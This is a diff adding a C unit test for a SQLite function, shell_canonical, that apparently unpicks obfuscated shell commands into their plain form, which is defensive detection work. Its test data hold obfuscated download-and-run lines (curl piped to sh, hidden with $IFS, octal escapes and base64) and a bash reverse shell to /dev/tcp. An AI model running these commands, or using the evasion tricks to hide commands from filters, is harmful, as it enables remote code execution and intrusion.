@@ -486,6 +486,32 @@ START_TEST(functions_answer_null_for_null)
 }
 END_TEST
 
+START_TEST(shell_canonical_writes_a_text_as_it_would_run)
+{
+    static const struct {
+        const char *text, *canonical;
+    } forms[] = {
+        {"X=url; c\"\"$X -s a | s\\h", "X=url ; curl -s a | sh"},
+        {"cu$@rl$IFS-s${IFS}a|$'\\x73h'", "curl -s a | sh"},
+        {"$(printf '\\143\\165\\162\\154') a", "curl a"},
+        {"bash -c \"$(cu\\rl a)\"", "bash -c $(curl a)\n$(curl a)"},
+        {"echo Y3VybCBh | base64 -d | sh", "echo Y3VybCBh | base64 -d | sh\ncurl a"},
+        {"bash -i >& /dev/tcp/1/2 0>&1", "bash -i >& /dev/tcp/1/2 0>&1"},
+        {"{curl,-s,a}|${Z:-sh}", "curl -s a | sh"},
+        {"env -S 'sh -c \"curl a\"'", "env -S sh -c \"curl a\"\nsh -c curl a\ncurl a"},
+        {"", ""},
+    };
+    sqlite3 *db = harness_open();
+
+    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
+        char *sql = sqlite3_mprintf("SELECT shell_canonical(%Q)", forms[i].text);
+        harness_expect(db, forms[i].canonical, "%s", sql);
+        sqlite3_free(sql);
+    }
+    harness_close(db);
+}
+END_TEST
+
 Suite *make_functions_suite(void);
 
 Suite *make_functions_suite(void)
@@ -506,6 +532,7 @@ Suite *make_functions_suite(void)
     tcase_add_test(tcase, names_drawn_at_random_are_told_from_names_that_people_chose);
     tcase_add_test(tcase, names_that_pass_for_others_are_known);
     tcase_add_test(tcase, functions_answer_null_for_null);
+    tcase_add_test(tcase, shell_canonical_writes_a_text_as_it_would_run);
     suite_add_tcase(suite, tcase);
     return suite;
 }
